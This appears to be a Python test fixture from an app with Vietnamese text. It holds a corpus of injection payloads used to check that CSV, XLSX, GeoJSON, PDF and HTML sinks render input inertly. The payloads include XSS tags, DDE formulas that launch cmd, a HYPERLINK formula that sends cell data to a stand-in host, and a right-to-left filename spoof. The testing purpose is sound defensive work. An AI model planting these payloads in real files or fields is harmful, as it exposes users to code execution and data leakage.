"""One corpus of hostile text, for every sink that shows what a file, a URL or a person typed.

Each payload is what a careless or hostile user could put in a feature's text field, an overlay's title
or a URL parameter. A sink passes when nothing runs (no script, no formula, no DDE call), nothing is
fetched (no link followed, no image loaded), and the text reads back as typed: exactly, or, in a
spreadsheet, behind the single quote that keeps a formula-like text a text (:func:`as_typed` removes it).

Used by the export tests (CSV, XLSX, GeoJSON, PDF) and the tests of the app's own sinks (banners, HTML).
"""

from __future__ import annotations

OUTSIDE = "example.invalid"  # a host no test may reach: a request to it is a fetch that must not happen

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('đình lập')</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "svg_onload": "<svg onload=alert(1)>",
    "md_link": f"[Bấm vào đây](http://{OUTSIDE}/dang-nhap)",
    "md_image": f"![x](http://{OUTSIDE}/x.png)",
    "hyperlink": f'=HYPERLINK("http://{OUTSIDE}/?"&A1,"Bấm vào đây")',
    "dde_cmd": "=cmd|' /C calc'!A0",
    "dde_call": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "plus": "+1",
    "minus": "-1+1",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "spaced_formula": "   =1+1",
    "fullwidth_formula": "\uff1d1+1",
    "math": "Giá $x^2$ và $\\alpha$",
    "bidi": "Xã Bắc Lãng \u202egpj.exe",
    "nul": "trước\x00sau",
    "long": ("Đình Lập – Lạng Sơn; " * 300)[:5000],
}

#: What a spreadsheet reads as the start of a formula (OWASP), also after leading blanks.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula if written unchanged."""
    return text[:1] in FORMULA_START or text.lstrip()[:1] in FORMULA_START


def as_typed(cell: str) -> str:
    """A spreadsheet cell's text as the person typed it: the neutralising quote of a formula-like text removed."""
    if cell.startswith("'") and formula_like(cell[1:]):
        return cell[1:]
    return cell


def live(cell: object) -> bool:
    """Whether a cell's text would run in a spreadsheet: it starts like a formula (no neutralising quote)."""
    return isinstance(cell, str) and formula_like(cell)
